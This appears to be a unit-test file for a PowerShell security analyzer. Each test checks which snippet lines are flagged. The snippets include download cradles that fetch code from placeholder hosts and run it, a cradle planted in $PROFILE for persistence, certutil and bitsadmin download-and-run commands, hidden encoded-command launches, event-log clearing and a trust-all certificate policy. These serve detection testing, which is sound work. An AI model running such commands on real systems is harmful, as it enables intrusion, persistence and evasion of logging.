"""Focused cases for what the independent attacks corpus (independent_corpora/attacks) found: one test per
fixed miss or false finding."""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, lines_of


def test_broken_hash_is_a_constant_algorithm_argument_as_pssa_judges_it() -> None:
    # PSScriptAnalyzer inspects a literal -Algorithm MD5/SHA1 on any command; a hashing type used
    # directly, a splatted algorithm and a strong algorithm are not its findings.
    result = analyze("""
        Get-FileHash -Path a.txt -Algorithm MD5
        Get-FileHash -Path a.txt -Algorithm:SHA1
        $hasher = [System.Security.Cryptography.SHA1]::Create()
        $md5 = New-Object System.Security.Cryptography.MD5CryptoServiceProvider
        $opts = @{ Algorithm = 'MD5' }
        Get-FileHash @opts -Path a.txt
        Get-FileHash -Path a.txt -Algorithm SHA256
        Get-FileHash -Path a.txt -Algorithm $algorithm
    """)
    assert lines_of(result, "PSAvoidUsingBrokenHashAlgorithms") == [1, 2]


def test_startup_folder_persistence_is_a_file_put_there_not_the_folder_read() -> None:
    result = analyze("""
        $startup = [Environment]::GetFolderPath('Startup')
        $target = Join-Path -Path $startup -ChildPath 'svc.lnk'
        Copy-Item -Path "$env:TEMP\\svc.lnk" -Destination $target
        Get-ChildItem -Path $startup -File
        $folders = @([Environment]::GetFolderPath('Startup'), [Environment]::GetFolderPath('CommonStartup'))
        foreach ($folder in $folders) { Get-ChildItem -Path $folder }
        Set-Content -Path "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat" -Value 'calc'
        $lnk = (New-Object -ComObject WScript.Shell).CreateShortcut("$startup\\u.lnk")
        Set-Service -Name Spooler -StartupType Automatic
    """)
    assert lines_of(result, "PSPersistenceStartupFolder") == [3, 7, 8]


def test_random_characters_joined_are_not_char_code_obfuscation() -> None:
    result = analyze("""
        $plain = -join ((48..57) + (65..90) | Get-Random -Count 14 | ForEach-Object { [char]$_ })
        $salt = -join (1..8 | ForEach-Object { [char]((New-Object System.Random).Next(97, 122)) })
        $c = -join (73, 69, 88 | ForEach-Object { [char]$_ })
    """)
    assert lines_of(result, "PSObfuscationCharCodes") == [3]


def test_trust_all_policy_is_reported_where_installed_once() -> None:
    policy = (
        'Add-Type -TypeDefinition @"\n'
        "using System.Net;\n"
        "public class TrustAll : ICertificatePolicy {\n"
        "    public bool CheckValidationResult(ServicePoint s, X509Certificate c, WebRequest r, int p) { return true; }\n"
        "}\n"
        '"@\n'
    )
    installed = analyze(policy + "[System.Net.ServicePointManager]::CertificatePolicy = New-Object TrustAll\n")
    assert lines_of(installed, "PSCertificateValidationDisabled") == [7]
    declared_only = analyze(policy)
    assert lines_of(declared_only, "PSCertificateValidationDisabled") == [3]


def test_should_process_at_pssa_lines_and_through_commands_that_support_it() -> None:
    result = analyze("""
        function Unlock-Desk {
            [CmdletBinding(SupportsShouldProcess)]
            param([string]$Identity)
            ([adsi]"WinNT://./$Identity,user").SetInfo()
        }
        function Reset-Queue {
            param([string]$Printer)
            if ($PSCmdlet.ShouldProcess($Printer)) { Get-Item -Path $Printer }
        }
        function Remove-Cache {
            [CmdletBinding(SupportsShouldProcess)]
            param([string]$Path)
            Remove-Item -Path $Path -Recurse
        }
        function Clear-Stage {
            [CmdletBinding(SupportsShouldProcess = $true)]
            param([string]$Path)
            Write-Log -Message $Path
        }
        function Write-Log {
            param([string]$Message)
            Add-Content -Path log.txt -Value $Message
        }
        function Get-Report {
            [CmdletBinding(SupportsShouldProcess)]
            param()
            New-Object -TypeName System.Text.StringBuilder
        }
    """)
    # Remove-Cache calls Remove-Item and Clear-Stage reaches Add-Content, which support -WhatIf
    # themselves (PSScriptAnalyzer's implicit ShouldProcess); New-Object does not.
    assert lines_of(result, "PSShouldProcess") == [2, 8, 25]


def test_password_literals_with_a_dollar_and_camel_case_pass_names_are_hardcoded_credentials() -> None:
    result = analyze("""
        $adminPass = 'Winter2024!'
        $secure = ConvertTo-SecureString -String $adminPass -AsPlainText -Force
        $sqlCred = New-Object PSCredential('sa', (ConvertTo-SecureString 'Sql$erver#1' -AsPlainText -Force))
        $dbPassword = 'Pa$$w0rd'
        $bypass = 'Bypass'
        $pass = 1
        $other = ConvertTo-SecureString "$prefix-suffix" -AsPlainText -Force
        $fromVault = "$env:DB_PASSWORD"
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == [1, 3, 4]


def test_encoded_command_through_cmd_and_an_array_argument_list() -> None:
    result = analyze("""
        cmd.exe /c powershell.exe -w 1 -e $x
        cmd.exe /c "powershell -ExecutionPolicy Bypass -EncodedCommand $b64"
        Start-Process -FilePath "$PSHOME\\powershell.exe" -ArgumentList @('-NoLogo', '-EncodedCommand', $x)
        cmd.exe /c "powershell -File C:\\scripts\\e.ps1 -e prod"
        cmd.exe /c echo -e done
        Start-Process -FilePath pwsh -ArgumentList @('-NoLogo', '-File', 'run.ps1')
    """)
    assert lines_of(result, "PSEncodedCommand") == [1, 2, 3]


def test_cradle_in_a_string_after_a_newline_escape() -> None:
    result = analyze("""
        Add-Content -Path $PROFILE -Value "`nIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.4/p')"
        Add-Content -Path $PROFILE -Value "`nImport-Module Posh-Git"
        $note = "`nIEXPLORE is opened by DownloadString-free code"
    """)
    assert lines_of(result, "PSDownloadCradle") == [1]


def test_wevtutil_clear_through_start_process_argument_list() -> None:
    result = analyze("""
        Start-Process -FilePath wevtutil.exe -ArgumentList 'cl', 'Microsoft-Windows-TaskScheduler/Operational'
        Start-Process wevtutil -Args 'cl System' -WindowStyle Hidden
        Start-Process -FilePath wevtutil.exe -ArgumentList 'qe', 'System', '/c:5'
        Start-Process -FilePath wevtutil.exe -ArgumentList 'epl', 'System', 'C:\\logs\\system.evtx'
    """)
    assert lines_of(result, "PSClearEventLog") == [1, 2]


def test_certutil_and_bitsadmin_downloads_that_are_then_run() -> None:
    result = analyze("""
        certutil.exe -urlcache -split -f 'http://192.0.2.17/t.exe' "$stage\\t.exe"
        & "$stage\\t.exe" -install
        bitsadmin /transfer job /download /priority high http://192.0.2.17/u.exe C:\\Users\\Public\\u.exe
        Start-Process -FilePath C:\\Users\\Public\\u.exe
        certutil -urlcache -f https://192.0.2.17/v.msi "$stage\\v.msi"
        if ((Get-FileHash -Path "$stage\\v.msi").Hash -eq $expected) { msiexec /i "$stage\\v.msi" /qn }
        certutil -hashfile "$stage\\w.exe" SHA256
        & "$stage\\w.exe"
    """)
    assert lines_of(result, "PSDownloadAndExecute") == [1, 3]


def test_bare_word_after_a_variable_and_a_comma_is_valid_command_syntax() -> None:
    result = analyze("""
        $dll = "$env:TEMP\\msvcp.dll"
        rundll32.exe $dll,DllRegisterServer
        Write-Output $dll, Second
        Write-Host 'next line is analysed'
    """)
    assert lines_of(result, "PSParseError") == []
    assert lines_of(result, "PSAvoidUsingWriteHost") == [4]


def test_member_call_glued_to_a_parenthesized_first_argument_is_valid_syntax() -> None:
    result = analyze("""
        IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.66/s1')
        Write-Output(Get-Date).ToString('o')
        Write-Host 'next line is analysed'
    """)
    assert lines_of(result, "PSParseError") == []
    assert lines_of(result, "PSDownloadCradle") == [1]
    assert lines_of(result, "PSAvoidUsingWriteHost") == [3]


def test_what_powershell_refuses_duplicate_parameters_control_leaving_finally_two_defaults() -> None:
    result = analyze("""
        function Test-Port {
            param([int]$Port = 443, [int]$Timeout, [int]$port = 80)
            try { Get-Item -Path $Port }
            finally {
                foreach ($i in 1..2) { if ($i) { break } }
                & { return $Timeout }
                return $null
            }
        }
        foreach ($n in 1..3) {
            try { $n } finally { continue }
        }
        switch ($Name) {
            'default' { 'a' }
            default { 'b' }
            default { 'c' }
        }
        switch ($Name) {
            1 { 'a' }
            default { 'b' }
        }
    """)
    assert lines_of(result, "PSParseError") == [2, 7, 11, 16]


def test_kerberos_requestor_token_is_a_dotnet_framework_only_type() -> None:
    result = analyze("""
        Add-Type -AssemblyName System.IdentityModel
        New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
        $handler = [System.IdentityModel.Tokens.Jwt.JwtSecurityTokenHandler]::new()
    """)
    assert lines_of(result, "PSCompatibilityWindowsPowerShellType") == [2]


def test_com_xmlhttp_response_executed_is_a_download_cradle() -> None:
    result = analyze("""
        $h = New-Object -ComObject Msxml2.XMLHTTP
        $h.open('GET', $u, $false)
        $h.send()
        iex $h.responseText
        $w = New-Object -ComObject WinHttp.WinHttpRequest.5.1
        $w.Open('GET', $api, $false); $w.Send()
        $data = $w.ResponseText | ConvertFrom-Json
        $code = $w.ResponseText
        Invoke-Expression $code
    """)
    assert lines_of(result, "PSDownloadCradle") == [4, 8]


def test_listing_event_logs_is_not_a_filter_left_hint() -> None:
    result = analyze("""
        Get-WinEvent -ListLog * | Where-Object { $_.RecordCount -gt 0 }
        Get-WinEvent -LogName System | Where-Object { $_.Id -eq 7036 }
    """)
    assert lines_of(result, "PSFilterLeft") == [2]


def test_hardcoded_computer_name_needs_the_parameter_written_out_as_pssa_compares_it() -> None:
    result = analyze("""
        Get-CimInstance -ClassName Win32_BIOS -Cn 'WEB03'
        Get-CimInstance -ClassName Win32_BIOS -computername:"WEB04"
        Get-CimInstance -ClassName Win32_BIOS -ComputerName WEB05
        Get-CimInstance -ClassName Win32_BIOS -ComputerName .
    """)
    assert lines_of(result, "PSAvoidUsingComputerNameHardcoded") == [2, 3]
